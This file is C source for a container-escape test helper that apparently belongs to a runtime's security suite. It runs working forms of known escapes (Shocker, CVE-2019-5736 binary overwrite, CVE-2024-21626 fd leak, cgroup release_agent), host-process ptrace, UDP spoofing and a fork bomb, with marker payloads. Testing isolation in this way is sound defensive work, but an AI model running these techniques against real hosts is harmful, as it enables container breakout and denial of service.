/* attack-guest: one attack on the host per mode, run as root inside a guest (/attack-guest).
 *
 * Every mode prints one line "MODE ok [detail]" when the attacking call succeeded, or
 * "MODE fail ERRNAME [detail]" with the errno's name when it was refused. The tests
 * (AttackSuiteKernelTest) assert the outcome AND look at the host for the attack's effect: a
 * success here is not always an escape (a guest may change its own hostname), and a refusal here
 * is not proof enough (the host is checked all the same).
 *
 * Nothing here may hurt the host if a defence is missing: writes use values that are harmless or
 * restored by the test (a marker string), module loading uses an empty image, sysrq writes 'h'
 * (help), the clock is set to what it already is. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *err(int e) {
  const char *name = strerrorname_np(e);
  return name ? name : "?";
}

static int result(const char *mode, long rc) {
  if (rc >= 0) {
    printf("%s ok\n", mode);
    return 0;
  }
  printf("%s fail %s\n", mode, err(errno));
  return 1;
}

/* ---- mounts --------------------------------------------------------------------------------- */

static int mount_tmpfs(const char *mark) {
  mkdir("/mnt", 0755);
  return result("mount-tmpfs", mount(mark, "/mnt", "tmpfs", 0, NULL));
}

static int mount_bind_root(void) {
  mkdir("/mnt", 0755);
  return result("mount-bind-root", mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL));
}

static int remount_proc_sys(void) {
  return result("remount-proc-sys",
                mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int mount_proc(void) {
  mkdir("/mnt", 0755);
  return result("mount-proc", mount("proc", "/mnt", "proc", 0, NULL));
}

static int mount_sysfs(void) {
  mkdir("/mnt", 0755);
  return result("mount-sysfs", mount("sysfs", "/mnt", "sysfs", 0, NULL));
}

/* CVE-2022-0492, step one: a cgroup v1 hierarchy whose release_agent the guest would own. */
static int mount_cgroup1(void) {
  mkdir("/mnt", 0755);
  return result("mount-cgroup1", mount("cgroup", "/mnt", "cgroup", 0, "rdma"));
}

static int umount_path(const char *mode, const char *path) {
  return result(mode, umount2(path, MNT_DETACH));
}

static int pivot_root_dot(void) {
  if (chdir("/") < 0) return result("pivot-root", -1);
  return result("pivot-root", syscall(SYS_pivot_root, ".", "."));
}

static int fsopen_tmpfs(void) {
  return result("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
}

static int open_tree_clone(void) {
  return result("open-tree",
                syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | AT_RECURSIVE));
}

static int mount_setattr_rw(void) {
  struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
  return result("mount-setattr",
                syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, &attr, sizeof attr));
}

/* chroot into a subdirectory, climb out with "..", chroot there: the classic chroot escape. It
 * may only ever reach the guest's own root, where the host's file HOSTPATH does not exist. */
static int chroot_escape(const char *hostpath) {
  mkdir("/tmp/jvs-ce", 0755);
  int keep = open("/", O_PATH | O_DIRECTORY);
  if (chroot("/tmp/jvs-ce") < 0) return result("chroot-escape", -1);
  if (fchdir(keep) < 0) return result("chroot-escape", -1);
  for (int i = 0; i < 64; i++) {
    if (chdir("..") < 0) return result("chroot-escape", -1);
  }
  if (chroot(".") < 0) return result("chroot-escape", -1);
  struct stat st;
  return result("chroot-escape", stat(hostpath, &st));
}

/* ---- files of the host's kernel -------------------------------------------------------------- */

static int write_file(const char *mode, const char *path, const char *value) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    printf("%s fail %s (open)\n", mode, err(errno));
    return 1;
  }
  ssize_t n = write(fd, value, strlen(value));
  int e = errno;
  close(fd);
  if (n < 0) {
    printf("%s fail %s (write)\n", mode, err(e));
    return 1;
  }
  printf("%s ok\n", mode);
  return 0;
}

static int read_file(const char *mode, const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) {
    printf("%s fail %s (open)\n", mode, err(errno));
    return 1;
  }
  char buf[64];
  ssize_t n = read(fd, buf, sizeof buf);
  int e = errno;
  close(fd);
  if (n <= 0) {
    printf("%s fail %s (read %zd)\n", mode, n < 0 ? err(e) : "EOF", n);
    return 1;
  }
  printf("%s ok %zd bytes\n", mode, n);
  return 0;
}

/* A device node for DEV (major:minor), then reading it: mknod alone is harmless, the device
 * cgroup must refuse the open. */
static int mknod_open(const char *mode, char type, unsigned maj, unsigned min) {
  char path[64];
  snprintf(path, sizeof path, "/tmp/jvs-node-%u-%u", maj, min);
  unlink(path);
  if (mknod(path, (type == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(maj, min)) < 0) {
    printf("%s fail %s (mknod)\n", mode, err(errno));
    return 1;
  }
  int rc = read_file(mode, path);
  unlink(path);
  return rc;
}

/* ---- kernel objects ---------------------------------------------------------------------- */

static int init_module_empty(void) {
  static const char image[64];
  return result("init-module", syscall(SYS_init_module, image, sizeof image, ""));
}

static int finit_module_self(void) {
  int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  return result("finit-module", syscall(SYS_finit_module, fd, "", 0));
}

static int delete_module_any(void) {
  return result("delete-module", syscall(SYS_delete_module, "jvs_no_such_module", O_NONBLOCK));
}

static int bpf_map(void) {
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  return result("bpf-map", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
}

static int bpf_prog(void) {
  struct bpf_insn insns[] = {
      {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0},
      {.code = BPF_JMP | BPF_EXIT},
  };
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  attr.insns = (unsigned long)insns;
  attr.insn_cnt = 2;
  attr.license = (unsigned long)"GPL";
  return result("bpf-prog", syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr));
}

/* Counting the CPU cycles of every process on CPU 0: host processes included. */
static int perf_open(void) {
  struct perf_event_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.size = sizeof attr;
  attr.type = PERF_TYPE_SOFTWARE;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  return result("perf-open", syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0));
}

static int add_key(const char *mark) {
  return result("add-key", syscall(SYS_add_key, "user", mark, "x", 1, KEY_SPEC_USER_KEYRING));
}

static int keyctl_join(const char *mark) {
  return result("keyctl-join", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, mark));
}

static int request_key(const char *mark) {
  return result("request-key", syscall(SYS_request_key, "user", mark, NULL, 0));
}

static int userfaultfd(void) {
  return result("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
}

static int io_uring(void) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  return result("io-uring", syscall(SYS_io_uring_setup, 4, &p));
}

/* "Shocker" (2014): guess the file handle of the root inode (ext4: inode 2, generation 0) and
 * open it relative to a mount of the guest: it resolves on the host's filesystem. */
static int shocker(void) {
  struct {
    struct file_handle h;
    unsigned char bytes[8];
  } fh;
  memset(&fh, 0, sizeof fh);
  fh.h.handle_bytes = 8;
  fh.h.handle_type = 1; /* FILEID_INO32_GEN */
  unsigned int ino = 2;
  memcpy(fh.h.f_handle, &ino, 4);
  int mfd = open("/etc/hostname", O_RDONLY | O_CLOEXEC);
  if (mfd < 0) mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  return result("shocker", syscall(SYS_open_by_handle_at, mfd, &fh.h, O_RDONLY));
}

/* ---- host processes -------------------------------------------------------------------------- */

static int ptrace_pid(const char *pidtext) {
  pid_t pid = (pid_t)atol(pidtext);
  return result("ptrace-host", ptrace(PTRACE_ATTACH, pid, 0, 0));
}

static int kill_pid(const char *pidtext) {
  return result("kill-host", kill((pid_t)atol(pidtext), 0));
}

static int pidfd_pid(const char *pidtext) {
  return result("pidfd-host", syscall(SYS_pidfd_open, (pid_t)atol(pidtext), 0));
}

static int vm_read_pid(const char *pidtext, const char *addrtext) {
  char buf[16];
  struct iovec local = {buf, sizeof buf};
  struct iovec remote = {(void *)strtoul(addrtext, NULL, 0), sizeof buf};
  return result("vm-read-host",
                process_vm_readv((pid_t)atol(pidtext), &local, 1, &remote, 1, 0));
}

/* Whether any process the guest can see has MARK in its command line. */
static int proc_scan(const char *mark) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  while (d && (e = readdir(d)) != NULL) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9' || atol(e->d_name) == getpid()) continue;
    char path[300], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    for (ssize_t i = 0; i < n; i++) {
      if (buf[i] == 0) buf[i] = ' ';
    }
    if (n > 0) {
      buf[n] = 0;
      if (strstr(buf, mark)) {
        printf("proc-scan ok pid %s (self %d): %s\n", e->d_name, getpid(), buf);
        return 0;
      }
    }
  }
  printf("proc-scan fail ENOENT\n");
  return 1;
}

/* CVE-2024-21626: a directory fd or cwd that a process of the guest holds but that lies outside
 * its root. From such a directory, climbing ".." reaches the host's root, and HOSTPATH (absolute,
 * a host file) opens relative to it. Every open fd and cwd of every visible process is tried. */
static int try_climb(int dirfd, const char *hostpath) {
  char rel[4096];
  snprintf(rel, sizeof rel, "%s%s", "../../../../../../../../../../../../../../../..", hostpath);
  int fd = openat(dirfd, rel, O_PATH | O_CLOEXEC);
  if (fd >= 0) {
    close(fd);
    return 1;
  }
  return 0;
}

static int fd_leak(const char *hostpath) {
  char cwd[4096];
  if (getcwd(cwd, sizeof cwd) == NULL || cwd[0] != '/') {
    printf("fd-leak ok cwd outside the root: %s\n", err(errno));
    return 0;
  }
  int tried = 0;
  DIR *d = opendir("/proc");
  struct dirent *p;
  while (d && (p = readdir(d)) != NULL) {
    if (p->d_name[0] < '0' || p->d_name[0] > '9') continue;
    char path[600];
    snprintf(path, sizeof path, "/proc/%s/cwd", p->d_name);
    int c = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (c >= 0) {
      tried++;
      if (try_climb(c, hostpath)) {
        printf("fd-leak ok via %s\n", path);
        return 0;
      }
      close(c);
    }
    snprintf(path, sizeof path, "/proc/%s/fd", p->d_name);
    DIR *fds = opendir(path);
    struct dirent *f;
    while (fds && (f = readdir(fds)) != NULL) {
      if (f->d_name[0] == '.') continue;
      char fdpath[900];
      snprintf(fdpath, sizeof fdpath, "%s/%s", path, f->d_name);
      int x = open(fdpath, O_PATH | O_CLOEXEC);
      if (x < 0) continue;
      struct stat st;
      if (fstat(x, &st) == 0 && S_ISDIR(st.st_mode)) {
        tried++;
        if (try_climb(x, hostpath)) {
          printf("fd-leak ok via %s\n", fdpath);
          return 0;
        }
      }
      close(x);
    }
    if (fds) closedir(fds);
  }
  errno = ENOENT;
  printf("fd-leak fail ENOENT (%d directories tried)\n", tried);
  return 1;
}

/* CVE-2019-5736: for SECONDS, every new process of the guest whose executable is not the guest's
 * own (another device than the guest's root: the host's runtime, during a `jvs exec`) is opened
 * through /proc/N/exe and reopened for writing, to append MARK. Prints how many executables it
 * saw, opened, and wrote. */
static int exe_overwrite(const char *mark, long seconds) {
  struct stat root;
  stat("/", &root);
  long seen = 0, opened = 0, written = 0;
  int lastErr = 0;
  time_t end = time(NULL) + seconds;
  printf("exe-overwrite started\n");
  fflush(stdout);
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9' || atol(e->d_name) == getpid()) continue;
      char path[300];
      snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) {
        if (errno != ENOENT && errno != ESRCH) lastErr = errno;
        continue;
      }
      struct stat st;
      if (fstat(fd, &st) == 0 && st.st_dev != root.st_dev) {
        seen++;
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
        for (int i = 0; i < 1000; i++) { /* until the runtime has exec'd and released it */
          int w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
          if (w >= 0) {
            opened++;
            if (write(w, mark, strlen(mark)) > 0) written++;
            close(w);
            break;
          }
          if (errno != ETXTBSY) {
            lastErr = errno;
            break;
          }
        }
      } else if (st.st_dev != root.st_dev) {
        lastErr = errno;
      }
      close(fd);
    }
    if (d) closedir(d);
  }
  printf("exe-overwrite %s seen %ld opened %ld written %ld %s\n", written ? "ok" : "fail", seen,
         opened, written, lastErr ? err(lastErr) : "none");
  return written ? 0 : 1;
}

/* ---- time and names -------------------------------------------------------------------------- */

static int set_clock(void) {
  struct timespec now;
  clock_gettime(CLOCK_REALTIME, &now);
  return result("clock-settime", clock_settime(CLOCK_REALTIME, &now));
}

static int set_time_of_day(void) {
  struct timeval now;
  gettimeofday(&now, NULL);
  return result("settimeofday", settimeofday(&now, NULL));
}

static int adjtimex_offset(void) {
  struct timex t;
  memset(&t, 0, sizeof t);
  t.modes = ADJ_FREQUENCY;
  t.freq = 0;
  return result("adjtimex", adjtimex(&t) < 0 ? -1 : 0);
}

static int set_hostname(const char *name) {
  return result("sethostname", sethostname(name, strlen(name)));
}

static int set_domainname(const char *name) {
  return result("setdomainname", setdomainname(name, strlen(name)));
}

/* ---- network --------------------------------------------------------------------------------- */

static int raw_socket(void) {
  return result("raw-socket", socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
}

static int packet_socket(void) {
  return result("packet-socket", socket(AF_PACKET, SOCK_RAW, htons(0x0003)));
}

/* One UDP datagram carrying MARK to DST:PORT from the foreign address SRC: a raw socket with a
 * hand-made IP header, else IP_FREEBIND or IP_TRANSPARENT on a UDP socket. Prints how it was sent
 * ("ok raw", "ok freebind", ...), or the last refusal. The host's listener decides. */
static int spoof_udp(const char *src, const char *dst, const char *port, const char *mark) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
  inet_pton(AF_INET, dst, &to.sin_addr);
  struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(40000)};
  inet_pton(AF_INET, src, &from.sin_addr);
  int last = 0;
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (s >= 0) {
    unsigned char pkt[256];
    size_t len = strlen(mark);
    memset(pkt, 0, sizeof pkt);
    struct iphdr *ip = (struct iphdr *)pkt;
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((unsigned short)(20 + 8 + len));
    ip->saddr = from.sin_addr.s_addr;
    ip->daddr = to.sin_addr.s_addr;
    unsigned short *udp = (unsigned short *)(pkt + 20);
    udp[0] = from.sin_port;
    udp[1] = to.sin_port;
    udp[2] = htons((unsigned short)(8 + len));
    udp[3] = 0;
    memcpy(pkt + 28, mark, len);
    if (sendto(s, pkt, 28 + len, 0, (struct sockaddr *)&to, sizeof to) > 0) {
      printf("spoof-udp ok raw\n");
      return 0;
    }
    last = errno;
  } else {
    last = errno;
  }
  int opts[] = {IP_FREEBIND, IP_TRANSPARENT};
  const char *names[] = {"freebind", "transparent"};
  for (int i = 0; i < 2; i++) {
    int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int one = 1;
    if (setsockopt(u, SOL_IP, opts[i], &one, sizeof one) < 0 ||
        bind(u, (struct sockaddr *)&from, sizeof from) < 0) {
      last = errno;
      close(u);
      continue;
    }
    if (sendto(u, mark, strlen(mark), 0, (struct sockaddr *)&to, sizeof to) > 0) {
      printf("spoof-udp ok %s\n", names[i]);
      return 0;
    }
    last = errno;
    close(u);
  }
  printf("spoof-udp fail %s\n", err(last));
  return 1;
}

/* Not an attack: the listener the spoofing attacks aim at, run by the test in a namespace of its
 * own. Prints "udp-from SRC PAYLOAD" for each datagram to PORT within SECONDS, then "udp-done". */
static int udp_listen(const char *port, const char *seconds) {
  int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
  if (s < 0 || bind(s, (struct sockaddr *)&at, sizeof at) < 0) return result("udp-listen", -1);
  printf("udp-listen ok\n");
  fflush(stdout);
  time_t end = time(NULL) + atol(seconds);
  while (time(NULL) < end) {
    struct timeval tv = {.tv_sec = 1};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    char buf[256];
    struct sockaddr_in from;
    socklen_t len = sizeof from;
    ssize_t n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&from, &len);
    if (n < 0) continue;
    buf[n] = 0;
    char text[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &from.sin_addr, text, sizeof text);
    printf("udp-from %s %s\n", text, buf);
    fflush(stdout);
  }
  printf("udp-done\n");
  return 0;
}

/* Not an attack: what iputils' ping does without NET_RAW. One ICMP echo over an unprivileged
 * ICMP datagram socket (allowed by net.ipv4.ping_group_range), and its reply within 5 s. */
static int icmp_echo(const char *dst) {
  int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
  if (s < 0) return result("icmp-echo", -1);
  struct sockaddr_in to = {.sin_family = AF_INET};
  inet_pton(AF_INET, dst, &to.sin_addr);
  unsigned char req[16] = {8, 0, 0, 0, 0, 0, 0, 1, 'j', 'v', 's'}; /* echo request, seq 1 */
  if (sendto(s, req, sizeof req, 0, (struct sockaddr *)&to, sizeof to) < 0)
    return result("icmp-echo", -1);
  struct timeval tv = {.tv_sec = 5};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  unsigned char reply[64];
  ssize_t n = recv(s, reply, sizeof reply, 0);
  if (n < 0) return result("icmp-echo", -1);
  printf("icmp-echo %s type %d\n", reply[0] == 0 ? "ok" : "fail EPROTO", reply[0]);
  return reply[0] == 0 ? 0 : 1;
}

/* ---- exhaustion ------------------------------------------------------------------------------ */

/* Forks until refused (at most MAX), holds for SECONDS, then the children go. */
static int fork_bomb(long max, long seconds) {
  long n = 0;
  int e = 0;
  pid_t group = getpid();
  while (n < max) {
    pid_t p = fork();
    if (p < 0) {
      e = errno;
      break;
    }
    if (p == 0) {
      sleep((unsigned)seconds + 5);
      _exit(0);
    }
    n++;
  }
  printf("fork-bomb %ld %s\n", n, e ? err(e) : "none");
  fflush(stdout);
  sleep((unsigned)seconds);
  signal(SIGTERM, SIG_IGN);
  kill(-group, SIGTERM);
  while (wait(NULL) > 0) {
  }
  return 0;
}

/* Touches up to MIB mebibytes; prints how far it got (the OOM killer may end it first). */
static int memory_hog(long mib) {
  long got = 0;
  for (; got < mib; got++) {
    char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) break;
    memset(p, 1, 1 << 20);
  }
  printf("memory-hog %ld\n", got);
  return 0;
}

/* Writes FILE until the disk refuses (at most MIB mebibytes); prints how much it wrote. */
static int disk_fill(const char *file, long mib) {
  int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd < 0) return result("disk-fill", -1);
  static char block[1 << 20];
  memset(block, 'x', sizeof block);
  long got = 0;
  int e = 0;
  while (got < mib) {
    ssize_t n = write(fd, block, sizeof block);
    if (n < (ssize_t)sizeof block) {
      e = n < 0 ? errno : ENOSPC;
      break;
    }
    got++;
  }
  fsync(fd);
  close(fd);
  printf("disk-fill %ld %s\n", got, e ? err(e) : "none");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc < 2) {
    fprintf(stderr, "usage: attack-guest MODE [ARG...]\n");
    return 2;
  }
  const char *m = argv[1];
  const char *a = argc > 2 ? argv[2] : "";
  const char *b = argc > 3 ? argv[3] : "";
  if (!strcmp(m, "mount-tmpfs")) return mount_tmpfs(a);
  if (!strcmp(m, "mount-bind-root")) return mount_bind_root();
  if (!strcmp(m, "remount-proc-sys")) return remount_proc_sys();
  if (!strcmp(m, "mount-proc")) return mount_proc();
  if (!strcmp(m, "mount-sysfs")) return mount_sysfs();
  if (!strcmp(m, "mount-cgroup1")) return mount_cgroup1();
  if (!strcmp(m, "umount")) return umount_path("umount", a);
  if (!strcmp(m, "pivot-root")) return pivot_root_dot();
  if (!strcmp(m, "fsopen")) return fsopen_tmpfs();
  if (!strcmp(m, "open-tree")) return open_tree_clone();
  if (!strcmp(m, "mount-setattr")) return mount_setattr_rw();
  if (!strcmp(m, "chroot-escape")) return chroot_escape(a);
  if (!strcmp(m, "write")) return write_file("write", a, b);
  if (!strcmp(m, "read")) return read_file("read", a);
  if (!strcmp(m, "mknod-open"))
    return mknod_open("mknod-open", a[0], (unsigned)atoi(b), (unsigned)atoi(argc > 4 ? argv[4] : "0"));
  if (!strcmp(m, "init-module")) return init_module_empty();
  if (!strcmp(m, "finit-module")) return finit_module_self();
  if (!strcmp(m, "delete-module")) return delete_module_any();
  if (!strcmp(m, "bpf-map")) return bpf_map();
  if (!strcmp(m, "bpf-prog")) return bpf_prog();
  if (!strcmp(m, "perf-open")) return perf_open();
  if (!strcmp(m, "add-key")) return add_key(a);
  if (!strcmp(m, "keyctl-join")) return keyctl_join(a);
  if (!strcmp(m, "request-key")) return request_key(a);
  if (!strcmp(m, "userfaultfd")) return userfaultfd();
  if (!strcmp(m, "io-uring")) return io_uring();
  if (!strcmp(m, "shocker")) return shocker();
  if (!strcmp(m, "ptrace-host")) return ptrace_pid(a);
  if (!strcmp(m, "kill-host")) return kill_pid(a);
  if (!strcmp(m, "pidfd-host")) return pidfd_pid(a);
  if (!strcmp(m, "vm-read-host")) return vm_read_pid(a, b);
  if (!strcmp(m, "proc-scan")) return proc_scan(a);
  if (!strcmp(m, "fd-leak")) return fd_leak(a);
  if (!strcmp(m, "exe-overwrite")) return exe_overwrite(a, atol(b));
  if (!strcmp(m, "clock-settime")) return set_clock();
  if (!strcmp(m, "settimeofday")) return set_time_of_day();
  if (!strcmp(m, "adjtimex")) return adjtimex_offset();
  if (!strcmp(m, "sethostname")) return set_hostname(a);
  if (!strcmp(m, "setdomainname")) return set_domainname(a);
  if (!strcmp(m, "raw-socket")) return raw_socket();
  if (!strcmp(m, "packet-socket")) return packet_socket();
  if (!strcmp(m, "spoof-udp")) return spoof_udp(a, b, argv[4], argv[5]);
  if (!strcmp(m, "icmp-echo")) return icmp_echo(a);
  if (!strcmp(m, "udp-listen")) return udp_listen(a, b);
  if (!strcmp(m, "fork-bomb")) return fork_bomb(atol(a), atol(b));
  if (!strcmp(m, "memory-hog")) return memory_hog(atol(a));
  if (!strcmp(m, "disk-fill")) return disk_fill(a, atol(b));
  fprintf(stderr, "attack-guest: unknown mode %s\n", m);
  return 2;
}
